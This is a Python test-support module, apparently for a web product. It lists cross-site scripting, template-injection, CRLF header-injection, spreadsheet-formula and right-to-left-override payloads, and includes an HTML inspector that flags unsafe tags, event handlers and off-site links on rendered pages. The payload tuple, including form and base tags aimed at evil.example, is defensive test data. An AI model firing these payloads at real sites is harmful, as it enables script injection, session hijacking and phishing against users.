"""Texts that try to become more than text, where people can write them, and what a page may hold at all."""

from __future__ import annotations

from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import urlsplit

PAYLOADS = (
    "<script>pdcaEvil()</script>",
    '"><img src=x onerror=pdcaEvil()>',
    "'><svg onload=pdcaEvil()>",
    "</textarea></title></script><script>pdcaEvil()</script>",
    "--><iframe src=javascript:pdcaEvil()></iframe>",
    '" autofocus onfocus="pdcaEvil()',
    '<div hx-get="/sign-out" hx-trigger="load">',
    '<form action="https://evil.example"><button name=x>',
    '<base href="https://evil.example"><meta http-equiv=refresh content=0>',
    "javascript:pdcaEvil()",
    "[hier](javascript:pdcaEvil())",
    "data:text/html,<script>pdcaEvil()</script>",
    "&lt;script&gt;pdcaEvil()&lt;/script&gt;",
    "{{7*7}}{% raw %}{person}{0.__class__}[[evil-je|evil-u]]",
    "\u202egnp.exe\u2066\u200b",
    "=HYPERLINK(1)",
    "x\r\nX-Evil: 1\r\n\r\nbody",
)
"""Markup, ways out of what it stands in, addresses that run, signs of templates, turned writing, formulas, heads."""

ONE_LINE = " ".join(one.replace("\r\n", " ") for one in PAYLOADS)
ALL = " ".join(PAYLOADS)

MAY_LEAD = frozenset({"http", "https", "mailto", ""})
OUR_OWN = "otpauth://totp/"
"""Opens the app for codes with a secret that we made; nobody else writes anything into it."""

LEADS = frozenset(
    {"href", "src", "action", "formaction", "data", "poster", "hx-get", "hx-post", "xlink:href"}
)


@dataclass
class Inspector(HTMLParser):
    """Reads a page as a browser does, and notes whatever a writer could have brought into it."""

    is_mail: bool = False
    wrong: list[str] = field(default_factory=list)
    text: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        """Begin."""
        super().__init__()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at an element: what it is, what it does when it loads, and where it leads."""
        given = dict(attrs)
        if tag in ("base", "object", "embed") or (tag == "script" and not given.get("nonce")):
            self.wrong.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in given:
            self.wrong.append("<meta http-equiv>")
        for name, value in attrs:
            if name.startswith(("on", "hx-on")) or (name == "style" and not self.is_mail):
                self.wrong.append(f"{tag} {name}")
            if name in LEADS and not _is_ours(tag, name, value or ""):
                self.wrong.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        """Keep what is read."""
        self.text.append(data)


def _is_ours(tag: str, name: str, value: str) -> bool:
    """Tell whether an element may lead there: within the product, or by a click to another page or a mail address."""
    where = urlsplit(value.strip())
    if tag == "a" and value.startswith(OUR_OWN):
        return True
    if where.scheme not in MAY_LEAD:
        return False
    return not where.netloc or (tag == "a" and name == "href" and "evil" not in where.netloc)


def faults(page: str, *, is_mail: bool = False) -> list[str]:
    """Return what is wrong with a page, or a mail, on which hostile texts stand; a mail has styles of its own."""
    inspector = Inspector(is_mail)
    inspector.feed(page)
    inspector.close()
    read = "".join(inspector.text)
    for sign, what in (
        ("\u202e", "turned writing"),
        ("\u2066", "turned writing"),
        ("49{% raw", "a template ran"),
    ):
        if sign in page:
            inspector.wrong.append(what)
    if "[[evil-je|evil-u]]" not in read and "evil-je" in read.replace("[[evil-je|evil-u]]", ""):
        inspector.wrong.append("a form of address was chosen in what somebody wrote")
    return inspector.wrong


def said(page: str) -> str:
    """Return the text of a page, as it is read."""
    inspector = Inspector()
    inspector.feed(page)
    return "".join(inspector.text)
